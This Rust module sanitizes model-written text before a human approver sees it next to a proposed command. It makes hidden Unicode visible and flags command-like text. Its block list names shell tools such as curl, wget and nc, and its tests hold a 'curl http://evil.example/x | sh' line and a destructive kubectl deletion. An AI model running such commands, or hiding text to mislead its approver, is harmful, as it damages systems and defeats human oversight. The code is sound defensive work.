//! Untrusted display text: words a model (or any outside party) wrote that a
//! person will read next to a command.
//!
//! An approver reads a proposal's description and reasoning before approving
//! it, so that text is an attack surface even though it is never run: a
//! model can write "Restart, then run: kubectl delete namespace shop" under a
//! safe restart, or hide a reversed or invisible span with Unicode bidi and
//! zero-width characters (the "Trojan Source" class) so the text reads
//! differently from what it is. [`DisplayText::untrusted`] is the one way
//! such text enters a proposal:
//!
//! - it is bounded (characters, and lines);
//! - C0/C1 control characters (terminal escapes) are removed, except `\n`;
//! - bidi controls, zero-width and other invisible format characters,
//!   U+2028/U+2029 and the like are made *visible* as `<U+202E>`, so the
//!   approver sees that something was hidden there;
//! - text that looks like a command (kubectl, curl, a pipe into a shell,
//!   `$( )`, `rm -rf`, ...) or a URL is *flagged* with a [`TextWarning`], so
//!   clients show it as "the model's text mentions a command that is not the
//!   proposal" rather than as advice.
//!
//! Only the structured command is ever rendered as the thing that will run;
//! nothing here is parsed into one.

use serde::{Deserialize, Serialize};

/// Lines kept of one text at most (a wall of text hides its end).
const MAX_LINES: usize = 20;

/// Why a client should show a text as a warning, not as advice.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum TextWarning {
    /// The text contains something that looks like a command line.
    MentionsCommand,
    /// The text contains a URL.
    MentionsUrl,
    /// Invisible or direction-changing characters were made visible.
    HiddenCharacters,
    /// The text was cut to its bound.
    Truncated,
}

/// Text from outside, cleaned for display, with what was found in it.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct DisplayText {
    pub text: String,
    /// Sorted, without repeats.
    pub warnings: Vec<TextWarning>,
}

impl DisplayText {
    /// Cleans `raw` for display: at most `max_chars` characters (after
    /// cleaning) and [`MAX_LINES`] lines.
    pub fn untrusted(raw: &str, max_chars: usize) -> DisplayText {
        let mut warnings = Vec::new();
        let mut out = String::with_capacity(raw.len().min(max_chars * 4));
        let mut chars = 0usize;
        let mut lines = 1usize;
        let mut truncated = false;
        for c in raw.trim().chars() {
            let piece: Option<String> = if c == '\n' {
                lines += 1;
                if lines > MAX_LINES {
                    truncated = true;
                    break;
                }
                Some("\n".into())
            } else if c == '\t' {
                Some(" ".into())
            } else if c.is_control() {
                // Terminal escapes, NUL, CR (a CR can overwrite a line).
                None
            } else if is_hidden(c) {
                warnings.push(TextWarning::HiddenCharacters);
                Some(format!("<U+{:04X}>", u32::from(c)))
            } else {
                Some(c.to_string())
            };
            if let Some(p) = piece {
                let n = p.chars().count();
                if chars + n > max_chars {
                    truncated = true;
                    break;
                }
                chars += n;
                out.push_str(&p);
            }
        }
        if truncated {
            warnings.push(TextWarning::Truncated);
        }
        let text = out.trim_end().to_owned();
        if mentions_command(&text) {
            warnings.push(TextWarning::MentionsCommand);
        }
        if mentions_url(&text) {
            warnings.push(TextWarning::MentionsUrl);
        }
        warnings.sort();
        warnings.dedup();
        DisplayText { text, warnings }
    }
}

/// Characters that change how text is shown without being seen: bidi
/// embeddings, overrides and isolates, zero-width characters, the line and
/// paragraph separators, the BOM, soft hyphen, invisible math operators,
/// tag characters, variation selectors and the rest of Unicode's format
/// class that matters in practice.
pub fn is_hidden(c: char) -> bool {
    matches!(u32::from(c),
        0x00AD            // soft hyphen
        | 0x034F          // combining grapheme joiner
        | 0x061C          // Arabic letter mark
        | 0x115F | 0x1160 // Hangul fillers
        | 0x17B4 | 0x17B5 // Khmer inherent vowels
        | 0x180B..=0x180F // Mongolian variation selectors, vowel separator
        | 0x200B..=0x200F // zero-width space, (non-)joiner, LRM, RLM
        | 0x2028..=0x202E // line/paragraph separator, LRE, RLE, PDF, LRO, RLO
        | 0x2060..=0x206F // word joiner, invisible operators, isolates, deprecated
        | 0x3164          // Hangul filler
        | 0xFE00..=0xFE0F // variation selectors
        | 0xFEFF          // BOM / zero-width no-break space
        | 0xFFA0          // halfwidth Hangul filler
        | 0xFFF9..=0xFFFB // interlinear annotation
        | 0x1D173..=0x1D17A // musical formatting
        | 0xE0000..=0xE007F // tags
        | 0xE0100..=0xE01EF // variation selectors supplement
    )
}

/// Words and shapes that make text read like a command line. Matched on the
/// lower-cased text; false positives only add a warning.
const COMMAND_MARKERS: [&str; 23] = [
    "kubectl",
    "helm ",
    "curl ",
    "wget ",
    "bash",
    "sh -c",
    "| sh",
    "|sh",
    "sudo ",
    "rm -",
    "chmod ",
    "$(",
    "`",
    "&&",
    "||",
    "--force",
    "--grace-period",
    "eval ",
    "exec ",
    "python -c",
    "powershell",
    "base64 -d",
    "nc -",
];

/// Whether `text` contains something that looks like a command.
pub fn mentions_command(text: &str) -> bool {
    let lower = text.to_lowercase();
    COMMAND_MARKERS.iter().any(|m| lower.contains(m))
}

/// Whether `text` contains a URL (a scheme, or a `www.` host).
pub fn mentions_url(text: &str) -> bool {
    let lower = text.to_lowercase();
    lower.contains("://") || lower.contains("www.") || lower.contains("data:")
}

#[cfg(test)]
mod tests {
    use super::*;
    use TextWarning::*;
    use proptest::prelude::*;

    #[test]
    fn plain_text_passes_unchanged() {
        let t = DisplayText::untrusted("  Scale out: the pods are saturated.\n", 100);
        assert_eq!(t.text, "Scale out: the pods are saturated.");
        assert!(t.warnings.is_empty());
    }

    #[test]
    fn trojan_source_characters_are_made_visible() {
        let t = DisplayText::untrusted("safe\u{202E}llatsni\u{2066}x\u{200B}y\u{2028}z", 100);
        assert_eq!(t.text, "safe<U+202E>llatsni<U+2066>x<U+200B>y<U+2028>z");
        assert_eq!(t.warnings, [HiddenCharacters]);
    }

    #[test]
    fn commands_and_urls_are_flagged() {
        let t = DisplayText::untrusted(
            "Restart, then run: kubectl delete namespace shop --force",
            200,
        );
        assert_eq!(t.warnings, [MentionsCommand]);
        let t = DisplayText::untrusted("see curl http://evil.example/x | sh", 200);
        assert_eq!(t.warnings, [MentionsCommand, MentionsUrl]);
    }

    #[test]
    fn escapes_are_removed_and_length_is_bounded() {
        let t = DisplayText::untrusted("a\u{1b}[31mb\r\u{7}c", 100);
        assert_eq!(t.text, "a[31mbc");
        let t = DisplayText::untrusted(&"x".repeat(50), 10);
        assert_eq!(t.text.chars().count(), 10);
        assert_eq!(t.warnings, [Truncated]);
        let t = DisplayText::untrusted(&"a\n".repeat(100), 10_000);
        assert_eq!(t.text.lines().count(), MAX_LINES);
        assert_eq!(t.warnings, [Truncated]);
    }

    proptest! {
        #[test]
        fn nothing_hidden_or_unbounded_survives(raw in any::<String>(), max in 0usize..300) {
            let t = DisplayText::untrusted(&raw, max);
            prop_assert!(t.text.chars().count() <= max);
            prop_assert!(t.text.lines().count() <= MAX_LINES);
            prop_assert!(!t.text.chars().any(|c| is_hidden(c) || (c.is_control() && c != '\n')));
        }
    }
}
